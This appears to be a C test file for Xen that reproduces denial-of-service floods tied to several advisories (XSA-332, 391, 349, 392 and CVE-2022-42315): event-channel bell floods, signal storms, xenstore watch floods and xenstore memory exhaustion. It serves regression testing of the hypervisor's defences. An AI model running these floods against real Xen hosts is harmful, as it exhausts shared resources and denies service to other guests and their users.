/* SPDX-License-Identifier: GPL-2.0-only OR BSD-2-Clause */
/*
 * Floods, one for each advisory. That the gateway did not pay for them (wake-ups, memory, others kept
 * waiting) is looked at in dom0 by the script; here they are only made.
 */
#include "tests/xen/hostile.h"

#include <errno.h>
#include <stdio.h>
#include <string.h>

static bool connected(struct front *f)
{
	return (front_connect(f) && front_greet(f)) || complain("no connection to begin with");
}

bool xsa_332_event_flood(struct front *f, unsigned long n)
{
	if (!connected(f))
		return false;
	for (unsigned long i = 0; i < n; i++)
		front_ring_bell(f);
	return true;
}

/* Twenty for each slot, asked for or not, and answers' room is signalled the same way. */
bool xsa_391_signals(struct front *f, unsigned long n)
{
	struct chan_slot query = slot_of(CHAN_KIND_PORT_QUERY), reply;

	if (!connected(f))
		return false;
	for (unsigned long i = 0; i < n; i++) {
		if (!front_put(f, &query))
			return complain("closed after %lu", i);
		for (unsigned int again = 0; again < 20; again++)
			front_ring_bell(f);
		while (front_take(f, &reply))
			front_ring_bell(f);
	}
	return true;
}

static void write_watched(struct front *own, unsigned int round)
{
	front_write(own, "state", "4");
	front_write(own, round & 1 ? "state/below" : "ring-ref0", "1");
}

/* Four writers; this one counts: all together make about n writes. */
bool xsa_349_watch_flood(struct front *f, unsigned long n)
{
	int child[3];

	if (!connected(f))
		return false;
	for (unsigned int i = 0; i < 3; i++)
		child[i] = child_begin(f, write_watched);
	for (unsigned long i = 0; i < n / 8; i++)
		write_watched(f, (unsigned int)i);
	for (unsigned int i = 0; i < 3; i++)
		child_end(f, child[i]);
	front_remove(f, "state/below");
	front_state(f, CONNECTED);
	return true;
}

bool xsa_392_queues(struct front *f, unsigned long n)
{
	struct chan_slot slot;
	uint16_t own_lid;

	if (!connected(f))
		return false;
	own_lid = front_own_lid(f);
	for (uint32_t i = 0; i < n; i++) {
		slot = request_slot(i, own_lid);
		if (!front_put(f, &slot))
			return complain("closed after %u requests", i);
	}
	while (front_take(f, &slot))
		;
	return true;
}

/* As many nodes as xenstored's quota allows, as large as they may be, below the device. */
bool cve_2022_42315_store_memory(struct front *f, unsigned long n)
{
	char key[64], value[2000];
	unsigned long made = 0;

	memset(value, 'x', sizeof(value));
	if (!connected(f))
		return false;
	for (unsigned long i = 0; i < n; i++) {
		snprintf(key, sizeof(key), "rubbish/%lu/state", i);
		if (!front_write_bytes(f, key, value, sizeof(value)))
			break;
		made++;
	}
	printf("nodes %lu: %s\n", made, made < n ? strerror(errno) : "no end");
	if (!front_lives(f))
		return complain("the session does not answer");
	return front_remove(f, "rubbish") || complain("cannot remove it");
}
